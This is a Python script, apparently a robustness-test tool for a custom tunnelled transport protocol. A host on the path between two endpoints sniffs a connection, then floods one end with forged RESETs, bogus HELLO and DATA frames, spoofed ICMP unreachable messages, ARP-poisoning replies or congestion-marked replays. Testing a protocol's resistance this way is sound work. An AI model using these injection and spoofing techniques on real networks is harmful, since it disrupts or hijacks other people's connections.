#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""forge.py INTERFACE KIND RATE: a host on the path of a lane floods one end.

INTERFACE is the port of a bridge that leads to the victim. The program reads there until both ends
have sent hellos, data and acknowledgements, and makes frames of KIND from what it has read:

    reset   RESET with the numbers of a frame that the victim has sent
    hello   HELLO of another connection of the peer, with the right key id and a random MAC
    data    DATA of the victim's connection with a new number, a random body and a random tag
    icmp    "port unreachable", which quotes a frame of the victim
    arp     ARP answers: the peer has another MAC address
    mark    a sealed frame of the peer, repeated with the mark of congestion (CE)

It sends RATE of them in a second until SIGTERM, and then prints their number and the seconds.
"""

import os
import signal
import socket
import struct
import sys
import time

LANE, HEADER = 42, 42  # the lane header in a frame with IPv4 and without a tag; its length
HELLO, HELLO_ACK, DATA, ACK, RESET = 1, 2, 7, 8, 9
CRC32C, SEALED = 0x04, 0x20
UNKNOWN = 1  # reason of a RESET: there is no such connection
ENOUGH = 50  # frames of each end, behind the handshake
VARIANTS = 500
ALL = 3  # ETH_P_ALL


def crc_table():
    table = []
    for n in range(256):
        for _ in range(8):
            n = n >> 1 ^ (0x82F63B78 if n & 1 else 0)
        table.append(n)
    return table


TABLE = crc_table()


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc = crc >> 8 ^ TABLE[(crc ^ byte) & 0xFF]
    return struct.pack('<I', crc ^ 0xFFFFFFFF)


def ip_sum(data):
    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def ip_header(like, payload, protocol=None, mark=0):
    """The IPv4 header of the frame @like, for another payload."""
    ip = bytearray(like[14:34])
    ip[1] |= mark
    ip[2:4] = struct.pack('>H', 20 + len(payload))
    ip[9] = protocol or ip[9]
    ip[10:12] = bytes(2)
    ip[10:12] = struct.pack('>H', ip_sum(bytes(ip)))
    return bytes(ip)


def udp_frame(like, lane, mark=0):
    udp = like[34:38] + struct.pack('>HH', 8 + len(lane), 0) + lane
    return like[:14] + ip_header(like, udp, mark=mark) + udp


def lane_header(like, kind, flags, length, conn, token):
    return like[LANE:LANE + 3] + struct.pack('<BHHII', kind, flags, length, conn, token) + \
        like[LANE + 16:LANE + HEADER]


def plain(like, kind, body, conn, token):
    lane = lane_header(like, kind, CRC32C, HEADER + len(body), conn, token) + body
    return udp_frame(like, lane + crc32c(lane))


class Seen:
    """Frames of the lane, as the bridge has passed them on: those of each connection."""

    def __init__(self):
        self.hello, self.conns = None, {}
        self.to, self.back = [], []

    def add(self, frame, outgoing):
        if frame[12:14] != b'\x08\x00' or frame[LANE:LANE + 2] != b'Wf':
            return
        kind = frame[LANE + 3]
        if kind in (HELLO, HELLO_ACK) and outgoing:
            self.hello = frame
        elif kind in (DATA, ACK):
            dst, src = struct.unpack_from('<H', frame, LANE + 8) + \
                struct.unpack_from('<H', frame, LANE + 24)
            both = self.conns.setdefault((dst, src) if outgoing else (src, dst), ([], []))
            both[not outgoing].append(frame)
            self.to, self.back = both

    def complete(self):
        """Both ends connect at once. Of their two connections the one that stays has the data."""
        return self.hello and min(len(self.to), len(self.back)) >= ENOUGH

    def numbers(self, frame):
        """Connection and token of a frame."""
        return struct.unpack_from('<II', frame, LANE + 8)


def reset(seen):
    conn, _ = seen.numbers(seen.to[-1])
    body = struct.pack('<HBBII', UNKNOWN, seen.to[-1][LANE + 2], seen.to[-1][LANE + 2],
                       *seen.numbers(seen.back[-1]))
    return [plain(seen.to[-1], RESET, body, conn & 0xFFFF, 0)]


def hello(seen):
    """Each one is of another connection, so that each one is examined."""
    old = seen.hello
    length = struct.unpack_from('<H', old, LANE + 6)[0]
    for _ in range(VARIANTS):
        own = os.urandom(8)
        body = own + old[LANE + HEADER + 8:LANE + length - 16] + os.urandom(16)
        yield plain(old, HELLO, body, *struct.unpack('<II', own))


def data(seen):
    like = min(seen.to, key=len)
    conn, token = seen.numbers(like)
    number = struct.unpack_from('<Q', like, LANE + HEADER)[0]
    body = os.urandom(64)
    for i in range(VARIANTS):
        head = lane_header(like, DATA, SEALED, HEADER + 8 + len(body), conn, token)
        yield udp_frame(like, head + struct.pack('<Q', number + 1000 + i) + body + os.urandom(16))


def icmp(seen):
    like, quoted = seen.to[-1], seen.back[-1]
    text = struct.pack('>BBHI', 3, 3, 0, 0) + quoted[14:14 + 28 + HEADER]
    text = text[:2] + struct.pack('>H', ip_sum(text)) + text[4:]
    return [like[:14] + ip_header(like, text, protocol=1) + text]


def arp(seen):
    like = seen.to[-1]
    victim, liar = like[:6], bytes.fromhex('025746540001')
    text = struct.pack('>HHBBH', 1, 0x0800, 6, 4, 2) + liar + like[26:30] + victim + like[30:34]
    return [victim + liar + b'\x08\x06' + text + bytes(18)]


def mark(seen):
    like = min(seen.to, key=len)
    return [udp_frame(like, like[LANE:], mark=3)]


KINDS = {f.__name__: f for f in (reset, hello, data, icmp, arp, mark)}


def listen(interface, ended):
    seen = Seen()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL)) as s:
        s.bind((interface, ALL))
        s.settimeout(0.1)  # a signal alone does not end recvfrom()
        print('listens', flush=True)
        while not ended and not seen.complete():
            try:
                frame, address = s.recvfrom(65536)
            except socket.timeout:
                continue
            seen.add(frame, address[2] == socket.PACKET_OUTGOING)
    return seen


def main():
    interface, kind, rate = sys.argv[1], sys.argv[2], int(sys.argv[3])
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(1))
    seen = listen(interface, ended)
    if ended:
        sys.exit('there was no stream')
    frames = list(KINDS[kind](seen))
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    out.bind((interface, 0))
    sent, begin = 0, time.monotonic()
    while not ended:
        due = int((time.monotonic() - begin) * rate)
        while sent < due:
            out.send(frames[sent % len(frames)])
            sent += 1
        time.sleep(0.001)
    print(sent, '%.3f' % (time.monotonic() - begin))


if __name__ == '__main__':
    main()
